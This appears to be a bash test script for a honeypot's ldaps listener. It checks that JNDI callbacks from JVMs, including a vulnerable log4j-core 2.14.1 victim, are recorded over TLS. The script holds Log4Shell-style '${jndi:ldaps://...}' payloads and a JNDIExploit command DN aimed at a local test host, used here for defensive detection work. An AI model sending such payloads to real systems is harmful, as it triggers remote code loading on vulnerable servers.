#!/usr/bin/env bash
# honeypot_tls_jndi.sh -- ldaps:// callbacks from a real JVM against the
# honeypot's TLS LDAP listener.  A JVM that does not trust the generated
# self-signed certificate still leaves an event: the failed handshake with
# the server name it asked for (SNI) and the protocol version.  A JVM given a
# truststore made by keytool from the generated certificate completes the
# handshake, and the whole LDAP search (the DN with the JNDIExploit command)
# is recorded with "tls": true -- by a plain InitialContext lookup and by a
# real log4j-core 2.14.1 victim (when the corpus is present).
source "$(dirname "$0")/honeypot/common.sh"
command -v javac >/dev/null && command -v java >/dev/null || { echo "SKIP: no JDK"; exit 77; }
command -v keytool >/dev/null || { echo "SKIP: no keytool"; exit 77; }

read -r PL < <(freeports 1)
HOST=canary.victim.test # resolved by the JVMs through jdk.net.hosts.file
echo "127.0.0.1 $HOST" >"$T/hosts"
cat >"$T/hp.conf" <<CONF
node $HOST
log_file $T/events.jsonl
state_dir $T/state
dedup_window 0
header_timeout 3s
[listener ldaps]
protocol ldaps
listen 127.0.0.1:$PL
CONF
hp_start "$T/hp.conf"
grep -q "generated a self-signed TLS certificate $T/state/tls-cert.pem" "$T/hp.err" ||
    fail "no certificate generation reported: $(cat "$T/hp.err")"
EV=$T/events.jsonl
javac -d "$T" "$HP_DIR/JndiClient.java"
JOPTS=(-Djdk.net.hosts.file="$T/hosts")

# ---- untrusted: the handshake attempt is the event ---------------------------------------
out=$(java "${JOPTS[@]}" -cp "$T" JndiClient "ldaps://$HOST:$PL/Untrusted/x") || fail "JVM ldaps lookup: $out"
case "$out" in NAMING_EXCEPTION*) ;; *) fail "untrusted JVM should get a NamingException, got: $out" ;; esac
wait_events "$EV" '"event":"tls.handshake_failed"'
got=$(ev_query "$EV" "[e['tls'], e['tls_sni'], e['tls_hello_version']] if e['event'] == 'tls.handshake_failed' else None")
[ "$got" = "[true, \"$HOST\", \"0x0303\"]" ] || fail "untrusted JVM handshake event: $got"
grep -q '"dn":"Untrusted/x"' "$EV" && fail "a DN was read although the handshake failed"
ok "untrusted JVM: $out; handshake recorded: $got ($(ev_query "$EV" "e.get('tls_error') if e['event'] == 'tls.handshake_failed' else None"))"

# ---- trusted through keytool: the whole search is captured ----------------------------
keytool -importcert -noprompt -alias honeypot -file "$T/state/tls-cert.pem" \
    -keystore "$T/trust.p12" -storetype PKCS12 -storepass changeit >/dev/null 2>&1 ||
    fail "keytool could not import the generated certificate"
JOPTS+=(-Djavax.net.ssl.trustStore="$T/trust.p12" -Djavax.net.ssl.trustStorePassword=changeit)
DN='Basic/Command/Base64/aWQ='
out=$(java "${JOPTS[@]}" -cp "$T" JndiClient "ldaps://$HOST:$PL/$DN") || fail "trusted JVM ldaps lookup: $out"
case "$out" in NAMING_EXCEPTION*) ;; *) fail "trusted JVM should get a NamingException, got: $out" ;; esac
wait_events "$EV" '"event":"ldap.search"'
got=$(ev_query "$EV" "[e['tls'], e['tls_version'], e['tls_sni'], e['ldap']['dn']] if e['event'] == 'ldap.search' else None")
case "$got" in "[true, \"TLSv1."[23]"\", \"$HOST\", \"$DN\"]") ;; *) fail "trusted JVM search event: $got" ;; esac
cmd=$(ev_query "$EV" "[f.get('command') for f in e.get('findings', []) if f['where'] == 'callback-url'] if e['event'] == 'ldap.search' else None")
[ "$cmd" = '["id"]' ] || fail "JNDIExploit command of the DN should decode to id, got $cmd"
url=$(ev_query "$EV" "e['ldap']['url'] if e['event'] == 'ldap.search' else None")
[ "$url" = "ldaps://127.0.0.1:$PL/$DN" ] || fail "callback url: $url"
ok "trusted JVM: $out; search recorded $got, command 'id' decoded"

# ---- a real log4j 2.14.1 victim, both ways ------------------------------------------------
JARS="${DEFUSE_CORPUS:-}/jars/mergebase-log4j-samples"
if [ -f "$JARS/true-hits/log4j-core-2.14.1.jar" ] && [ -f "$JARS/false-hits/log4j-api-2.14.1.jar" ]; then
    CP="$JARS/false-hits/log4j-api-2.14.1.jar:$JARS/true-hits/log4j-core-2.14.1.jar"
    javac -cp "$CP" -d "$T" "$HP_DIR/Log4jVictim.java"
    java "${JOPTS[@]}" -cp "$CP:$T" Log4jVictim "\${jndi:ldaps://$HOST:$PL/Victim/\${java:version}}" \
        >"$T/victim.out" 2>&1 || true
    wait_events "$EV" '"dn":"Victim/' 1 15
    dn=$(ev_query "$EV" "e['ldap']['dn'] if e['event'] == 'ldap.search' and e['ldap']['dn'].startswith('Victim/') and e['tls'] else None")
    dn=${dn%%$'\n'*}
    case "$dn" in *'${'*|Victim/|'') fail "victim DN over ldaps not substituted: '$dn'" ;; esac
    n0=$(grep -c '"event":"tls.handshake_failed"' "$EV")
    java -Djdk.net.hosts.file="$T/hosts" -cp "$CP:$T" Log4jVictim \
        "\${jndi:ldaps://$HOST:$PL/Untrusted-victim}" >"$T/victim2.out" 2>&1 || true
    wait_events "$EV" '"event":"tls.handshake_failed"' $((n0 + 1))
    ok "log4j-core 2.14.1 over ldaps: trusted -> search with DN '$dn'; untrusted -> handshake event"
else
    echo "note: corpus jars absent (DEFUSE_CORPUS=${DEFUSE_CORPUS:-}), real log4j victim skipped"
fi

if grep -qF '${' "$EV"; then fail "a live \${ in the JSON log"; fi
hp_stop
grep -q "TLS: [1-9][0-9]* handshakes, [1-9][0-9]* failed" "$T/hp.err" || fail "TLS counters missing from the summary: $(tail -3 "$T/hp.err")"
echo "PASS"
